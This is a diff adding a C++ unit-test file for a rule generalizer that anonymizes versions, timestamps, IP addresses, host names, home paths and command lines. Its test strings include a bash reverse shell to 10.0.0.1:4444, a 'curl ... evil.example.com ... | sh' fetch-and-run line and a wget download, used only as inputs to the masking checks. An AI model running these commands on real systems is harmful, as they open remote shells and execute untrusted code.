@@ -1,0 +1,234 @@
+// SPDX-License-Identifier: GPL-3.0-or-later
+
+#include <flock/policy/rule_generalize.hpp>
+
+#include <random>
+
+#include <flock/base/utf8.hpp>
+
+namespace flk {
+namespace {
+
+std::string generalized(Generalization to, std::string_view text) {
+  std::string out;
+  generalize(to, text, out);
+  return out;
+}
+
+std::string home(std::string_view text) {
+  return generalized(Generalization::home, text);
+}
+
+std::string command(std::string_view text) {
+  return generalized(Generalization::command, text);
+}
+
+TEST(Generalize, CutsVersionsBehindTheirFirstNumbers) {
+  const auto major = [](auto t) {
+    return generalized(Generalization::major, t);
+  };
+  const auto minor = [](auto t) {
+    return generalized(Generalization::minor, t);
+  };
+  EXPECT_EQ(major("10.14.4"), "10");
+  EXPECT_EQ(minor("10.14.4"), "10.14");
+  EXPECT_EQ(major("12 (bookworm)"), "12");
+  EXPECT_EQ(minor("12 (bookworm)"), "12");
+  EXPECT_EQ(minor("12."), "12");
+  EXPECT_EQ(minor("12.x"), "12");
+  EXPECT_EQ(major("v12"), "***");
+  EXPECT_EQ(minor("rolling"), "***");
+}
+
+TEST(Generalize, RoundsTimesDownToTheirDayOrMonth) {
+  const auto day = [](auto t) { return generalized(Generalization::day, t); };
+  const auto month = [](auto t) {
+    return generalized(Generalization::month, t);
+  };
+  EXPECT_EQ(day("1554740670"), "1554681600");
+  EXPECT_EQ(day("1554740670.75"), "1554681600");
+  EXPECT_EQ(day("1554740670123"), "1554681600000");
+  EXPECT_EQ(month("1554740670"), "1554076800");
+  EXPECT_EQ(day("0"), "0");
+  EXPECT_EQ(day("2026-11-23T07:00:00Z"), "2026-11-23");
+  EXPECT_EQ(day("2026-11-23 07:00:00 +0100"), "2026-11-23");
+  EXPECT_EQ(day("2026-11-23"), "2026-11-23");
+  EXPECT_EQ(month("2026-11-23"), "2026-11");
+  EXPECT_EQ(month("2026-11"), "2026-11");
+}
+
+TEST(Generalize, MasksWhatIsNoTime) {
+  for (const auto* text :
+       {"yesterday", "-1", "1554740670 Ann", "2026-11-23Ann", "2026-1-1",
+        "99999999999999999999", "1.5.2", "253402300800000"}) {
+    EXPECT_EQ(generalized(Generalization::day, text), "***") << text;
+  }
+}
+
+TEST(Generalize, TakesAddressesToTheirNetwork) {
+  const auto prefix = [](auto t) {
+    return generalized(Generalization::prefix, t);
+  };
+  EXPECT_EQ(prefix("192.168.17.77"), "192.168.17.0/24");
+  EXPECT_EQ(prefix("192.168.17.0/24"), "192.168.17.0/24");
+  EXPECT_EQ(prefix("2001:db8:1:2:3:4:5:6"), "2001:db8:1::/48");
+  EXPECT_EQ(prefix("2001:db8:1::/48"), "2001:db8:1::/48");
+  EXPECT_EQ(prefix("::ffff:192.168.17.77"), "192.168.17.0/24");
+  // The lower half is made from the hardware's address.
+  EXPECT_EQ(prefix("fe80::0211:22ff:fe33:4455%eth0"), "fe80::/48");
+  EXPECT_EQ(prefix("ann-laptop"), "***");
+  EXPECT_EQ(prefix("192.168.17.77:80"), "***");
+}
+
+TEST(Generalize, KeepsAddressesThatSayWhoCanReachAService) {
+  for (const auto* text : {"127.0.0.1", "127.0.0.53", "::1", "0.0.0.0", "::"}) {
+    EXPECT_EQ(generalized(Generalization::prefix, text), text);
+  }
+  EXPECT_EQ(generalized(Generalization::prefix, "127.0.0.1%Ann"), "127.0.0.1");
+  EXPECT_EQ(generalized(Generalization::prefix, "::/0"), "::/48");
+}
+
+TEST(Generalize, TakesHostNamesToTheirDomains) {
+  const auto domain = [](auto t) {
+    return generalized(Generalization::domain, t);
+  };
+  EXPECT_EQ(domain("ann-laptop"), "*");
+  EXPECT_EQ(domain("ann-laptop.example.com ann-laptop"), "*.example.com *");
+  EXPECT_EQ(domain("www.bank.co.uk"), "*.bank.co.uk");
+  EXPECT_EQ(domain("bank.co.uk\texample.com."), "bank.co.uk\texample.com");
+  EXPECT_EQ(domain("ann.ibm.com"), "*.ibm.com");
+  EXPECT_EQ(domain("ann-laptop.local,ann.home.arpa"), "*.local,*.arpa");
+  EXPECT_EQ(domain("localhost ip6-loopback broadcasthost"),
+            "localhost ip6-loopback broadcasthost");
+  EXPECT_EQ(domain("10.1.2.3 ::1"), "10.1.2.3 ::1");
+  EXPECT_EQ(domain("ann@example.com ann/x.example.com"), "* *");
+}
+
+TEST(Generalize, TakesHomesToATildeWhereverTheyStand) {
+  EXPECT_EQ(home("/home/ann"), "~");
+  EXPECT_EQ(home("/home/ann/bin/x"), "~/bin/x");
+  EXPECT_EQ(home("/Users/ann/Library"), "~/Library");
+  EXPECT_EQ(home("/users/ann"), "~");
+  EXPECT_EQ(home("/root/.bashrc"), "~/.bashrc");
+  EXPECT_EQ(home("/var/root"), "~");
+  EXPECT_EQ(home("sh -c '/home/ann/x --log=/home/ann/y:/home/bob'"),
+            "sh -c '~/x --log=~/y:~'");
+  EXPECT_EQ(home("file:///home/ann/x"), "file:~/x");
+  EXPECT_EQ(home("//home//./ann//x"), "~//x");
+  EXPECT_EQ(home("/Users/Ann\\ Smith/x"), "~/x");
+  EXPECT_EQ(home("/home/DOM\\ann/x"), "~/x");
+  EXPECT_EQ(home("~ann/x ~"), "~/x ~");
+}
+
+TEST(Generalize, KeepsTheWayToAHomeInsideAPath) {
+  EXPECT_EQ(home("/var/home/ann/x"), "/var/home/~/x");
+  EXPECT_EQ(home("/System/Volumes/Data/Users/ann/x"),
+            "/System/Volumes/Data/Users/~/x");
+  EXPECT_EQ(home("-I/home/ann/include"), "-I/home/~/include");
+}
+
+TEST(Generalize, HidesWhatElseIsCalledAfterAnAccount) {
+  EXPECT_EQ(home("/var/spool/cron/crontabs/ann"), "/var/spool/cron/crontabs/~");
+  EXPECT_EQ(home("/var/spool/cron/ann"), "/var/spool/cron/~");
+  EXPECT_EQ(home("/private/var/at/tabs/ann"), "/private/var/at/tabs/~");
+  EXPECT_EQ(home("/media/ann/STICK"), "/media/~/STICK");
+}
+
+TEST(Generalize, LeavesOtherPathsAsTheyAre) {
+  for (const auto* text :
+       {"/usr/bin/homectl", "/home", "/home/", "/rootfs/x", "/opt/root/x",
+        "a~b", "/etc/cron.d/x", "home/ann", "///", "/./.", ""}) {
+    EXPECT_EQ(home(text), text);
+  }
+}
+
+TEST(Generalize, KeepsOfCommandsWhatIsTheSameForEverybody) {
+  EXPECT_EQ(command("root test -x /usr/sbin/anacron || ( cd / && run-parts "
+                    "--report /etc/cron.daily )"),
+            "root test -x /usr/sbin/anacron || ( cd / && run-parts --report "
+            "/etc/cron.daily )");
+  EXPECT_EQ(command("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
+  EXPECT_EQ(command("BOOT_IMAGE=/boot/vmlinuz root=UUID=12ab-34 ro "
+                    "mitigations=off module.sig_enforce=1"),
+            "BOOT_IMAGE=/boot/vmlinuz root=UUID=* ro mitigations=off "
+            "module.sig_enforce=1");
+}
+
+TEST(Generalize, HidesEveryOtherWordOfACommand) {
+  EXPECT_EQ(command("curl -u ann:hunter2 -phunter2 --password=hunter2"),
+            "curl -u *:* -p* --password=*");
+  EXPECT_EQ(command("MAILTO=ann@example.com ann /home/ann/run.sh Ann"),
+            "MAILTO=* * ~/run.sh *");
+  EXPECT_EQ(command("sh -c \"echo secret | base64 -d\""),
+            "sh -c \"echo * | base64 -d\"");
+  EXPECT_EQ(command("key c2VjcmV0cGE= c2VjcmV0cA== Sec3t=x"), "* *= *== *=*");
+  EXPECT_EQ(command("--hunter-2-or-a-much-longer-secret -\u00e9"), "--* -*");
+}
+
+TEST(Generalize, KeepsOfUrlsTheSchemeAndTheDomain) {
+  EXPECT_EQ(command("curl https://ann:pw@x.evil.example.com:8443/ann?k=v | sh"),
+            "curl https://*.example.com/* | sh");
+  EXPECT_EQ(command("wget http://10.0.0.1/x file:///home/ann/x"),
+            "wget http://10.0.0.1/* file://~/x");
+  EXPECT_EQ(command("ssh://ann-laptop"), "ssh://*");
+}
+
+TEST(Generalize, LeavesAnEmptyTextEmpty) {
+  for (int to = 0; to <= static_cast<int>(Generalization::domain); ++to) {
+    EXPECT_EQ(generalized(static_cast<Generalization>(to), ""), "");
+  }
+}
+
+// Texts put together from what the scanners look at.
+std::string any_text(std::mt19937& random) {
+  static constexpr const char* kParts[] = {"/",      "home",
+                                           "Users",  "ann",
+                                           "~",      " ",
+                                           "-p",     "--x",
+                                           "=",      ":",
+                                           "://",    ".",
+                                           "\\",     "'",
+                                           "\"",     "root",
+                                           "/root",  "*",
+                                           "http",   "@",
+                                           "12",     "\u00e9",
+                                           "/var/",  "mail/",
+                                           "./",     "sh",
+                                           "x.y.co", "2026-11-23",
+                                           "T",      "%",
+                                           "::1",    "[",
+                                           "]",      "\xf0\x9f\x98\x80"};
+  std::string text;
+  for (auto count = random() % 12; count > 0; --count) {
+    text += kParts[random() % std::size(kParts)];
+  }
+  return text;
+}
+
+TEST(Generalize, IsIdempotentAndGivesUtf8) {
+  std::mt19937 random{7};
+  for (int i = 0; i < 50000; ++i) {
+    const auto text = any_text(random);
+    for (int n = 0; n <= static_cast<int>(Generalization::domain); ++n) {
+      const auto to = static_cast<Generalization>(n);
+      const auto once = generalized(to, text);
+      ASSERT_TRUE(is_utf8(once)) << text;
+      ASSERT_EQ(generalized(to, once), once) << name_of(to) << ": " << text;
+    }
+  }
+}
+
+TEST(Generalize, TakesTimeLinearInTheLength) {
+  constexpr std::size_t kLength = 1 << 20;
+  for (const std::string part : {"/", "/./", "~", "/home", "://", "a=", "-"}) {
+    std::string text;
+    while (text.size() < kLength) text += part;
+    // Quadratic work would not end before the test's time-out.
+    EXPECT_LE(home(text).size(), text.size());
+    EXPECT_LE(command(text).size(), 2 * text.size());
+  }
+}
+
+}  // namespace
+}  // namespace flk
